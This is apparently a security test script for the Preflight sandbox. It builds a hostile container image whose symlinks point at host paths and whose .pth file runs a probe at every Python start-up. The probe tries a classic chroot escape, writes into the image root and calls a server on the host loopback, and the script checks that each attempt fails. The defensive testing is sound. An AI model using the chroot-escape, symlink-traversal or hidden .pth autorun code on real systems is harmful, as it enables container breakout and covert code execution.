#!/usr/bin/env bash
# An image from a stranger cannot reach the host through Preflight (docs/security.md): links
# in its root are resolved inside the root, never on the host, when Preflight makes the
# user's folders and the platform's /etc/hosts. The image here is the built-in python image
# with one more layer whose /etc/hosts, /home/job and /philly/logs are links to paths of the
# host (absolute, and relative with "../" enough to climb out); the same paths also exist in
# the image, so the job runs. Afterwards the host's file holds what it held and its folders
# keep their owner; in the container the links led to the image's own copies. The image also
# carries a .pth file whose code tries to reach the host when any of its pythons starts: the
# static checks' as much as the job's.
# Usage: hostile_image.sh PREFLIGHT_BINARY
set -u
source "$(dirname "$0")/lib.sh"
preflight=$1
require_runtime

base=${PREFLIGHT_CACHE:-${XDG_CACHE_HOME:-$HOME/.cache}/preflight}/images/python
[[ -f $base/index.json ]] || { echo "SKIP: the python image is not built (scripts/setup python)" >&2; exit 77; }

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export PREFLIGHT_CACHE=$work/cache
host=$work/host  # what the image's links point at, on the host
mkdir -p "$host/home" "$host/logs"
echo "the host's own file" >"$host/hosts"
chmod 755 "$host" "$host/home" "$host/logs"
owner=$(stat -c %u:%g "$host")

# A server on the host's loopback, which no code of the image may reach.
python3 - "$host" <<'PY' &
import socket, sys
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
open(sys.argv[1] + "/port", "w").write(str(server.getsockname()[1]))
server.settimeout(300)
try:
    server.accept()
    open(sys.argv[1] + "/called", "w").write("x")
except OSError:
    pass
PY
server=$!
for _ in $(seq 50); do [[ -s $host/port ]] && break; sleep 0.1; done

python3 - "$base" "$work/evil" "$host" "$(cat "$host/port")" <<'PY'
import hashlib, io, json, os, shutil, sys, tarfile
base, out, host, port = sys.argv[1:]
# The base's blobs are linked, never written: new files get new names (their digests), and the
# index is a file of its own.
shutil.copytree(os.path.join(base, "blobs"), os.path.join(out, "blobs"), copy_function=os.link)
shutil.copy(os.path.join(base, "oci-layout"), out)
def blob(digest):
    return os.path.join(out, "blobs", *digest.split(":"))
def put(data):
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    with open(blob(digest), "xb") as f:
        f.write(data)
    return digest
index = json.load(open(os.path.join(base, "index.json")))
manifest = json.load(open(blob(index["manifests"][0]["digest"])))
config = json.load(open(blob(manifest["config"]["digest"])))

layer = io.BytesIO()
with tarfile.open(fileobj=layer, mode="w") as t:
    def add(name, kind, target="", data=b"", mode=None):
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.size = kind, target, len(data)
        info.mode = mode or (0o755 if kind == tarfile.DIRTYPE else 0o644)
        t.addfile(info, io.BytesIO(data))
    climb = "../" * 12
    add("etc/hosts", tarfile.SYMTYPE, host + "/hosts")
    add("home/job", tarfile.SYMTYPE, host + "/home")
    add("philly", tarfile.DIRTYPE)
    add("philly/logs", tarfile.SYMTYPE, climb + host.lstrip("/") + "/logs")
    # The same paths in the image, where the links lead when resolved in its root.
    parts = host.strip("/").split("/")
    for i in range(1, len(parts) + 1):
        add("/".join(parts[:i]), tarfile.DIRTYPE)
    add(host.lstrip("/") + "/home", tarfile.DIRTYPE)
    add(host.lstrip("/") + "/logs", tarfile.DIRTYPE, mode=0o1777)  # as a log folder of an image is
    add(host.lstrip("/") + "/hosts", tarfile.REGTYPE, data=b"the image's own file\n")
    # Code every python of the image runs at start-up (a .pth file): it tries to write into the
    # image's root, to climb out of a chroot onto the host, and to reach a server on the host's
    # loopback. In the sandbox each attempt fails; as root in a plain chroot each succeeded.
    probe = f"""
import os, socket
def attempt(what):
    try:
        what()
    except Exception:
        pass
def write_root():
    open("/written-by-image", "w").write("x")
def climb_out():
    os.makedirs("/tmp/climb", exist_ok=True)
    os.chroot("/tmp/climb")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    open("{host}/escaped", "w").write("x")
def call_home():
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
for what in (write_root, call_home, climb_out):
    attempt(what)
"""
    add("usr/lib/python3/dist-packages/hostile_probe.py", tarfile.REGTYPE, data=probe.encode())
    add("usr/lib/python3/dist-packages/zz-hostile.pth", tarfile.REGTYPE, data=b"import hostile_probe\n")
data = layer.getvalue()
digest = put(data)
manifest["layers"].append({"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": digest,
                           "size": len(data)})
config["rootfs"]["diff_ids"].append(digest)
config_bytes = json.dumps(config).encode()
manifest["config"] = dict(manifest["config"], digest=put(config_bytes), size=len(config_bytes))
manifest_bytes = json.dumps(manifest).encode()
index["manifests"][0] = dict(index["manifests"][0], digest=put(manifest_bytes), size=len(manifest_bytes))
index["manifests"][0].get("annotations", {}).pop("dev.preflight.recipe.sha256", None)
json.dump(index, open(os.path.join(out, "index.json"), "w"))
PY


job=$work/job
mkdir -p "$job"
cat >"$job/main.py" <<'PY'
import os, socket
print("localhost is", socket.gethostbyname("localhost"))
for folder in (os.path.expanduser("~"), "/philly/logs"):
    with open(os.path.join(folder, "written.txt"), "w") as f:
        f.write("from the job\n")
    print("wrote in", folder)
PY
printf 'name: hostile\nimage: oci:%s\ncommand: python main.py\n' "$work/evil" >"$job/job.yaml"

# The user grants the image's folder (docs/cli.md "--allow"): an image from anyone's docker save.
"$preflight" run "$job/job.yaml" --allow "$work/evil" --timeout 2m >"$work/out" 2>&1
status=$?
check_equal "exit status (the job runs in the image's own folders)" 0 "$status"
check_contains "localhost resolves through the platform's /etc/hosts" "localhost is 127.0.0.1" "$(cat "$work/out")"
check_contains "the job wrote in its home" "wrote in /home/job" "$(cat "$work/out")"
check_equal "the host's file is unchanged" "the host's own file" "$(cat "$host/hosts")"
for dir in "$host/home" "$host/logs"; do
  check_equal "$dir keeps its owner" "$owner" "$(stat -c %u:%g "$dir")"
  check_equal "$dir holds nothing new" "" "$(find "$dir" -mindepth 1 -newer "$host/hosts" -not -path "$host/hosts")"
done
check_equal "the image's code did not reach the host's loopback" "" "$(ls "$host/called" 2>/dev/null)"
check_equal "the image's code did not climb out onto the host" "" "$(ls "$host/escaped" 2>/dev/null)"
check_equal "the image's code did not write the cached root" "" \
  "$(ls "$PREFLIGHT_CACHE"/rootfs/*/rootfs/written-by-image "$PREFLIGHT_CACHE"/rootfs/*/written-by-image 2>/dev/null)"
kill "$server" 2>/dev/null
check_no_leftovers hostile
finish
